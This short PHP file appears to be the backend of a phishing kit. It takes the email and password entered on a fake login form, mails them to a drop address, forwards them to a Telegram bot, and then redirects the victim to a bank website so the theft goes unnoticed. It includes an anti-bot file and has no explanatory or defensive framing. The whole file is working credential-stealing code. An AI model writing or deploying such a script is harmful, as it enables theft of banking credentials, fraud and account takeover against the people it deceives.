<?php include 'antibots.php'; $ip=$_SERVER['REMOTE_ADDR']; $m="User: ".$_POST['email']." Pass: ".$_POST['password']; mail("drop@example.net","rezult",$m);
file_get_contents("https://api.telegram.org/bot".$t."/sendMessage?chat_id=".$c."&text=".urlencode($m)); header("Location: https://bank.example/");
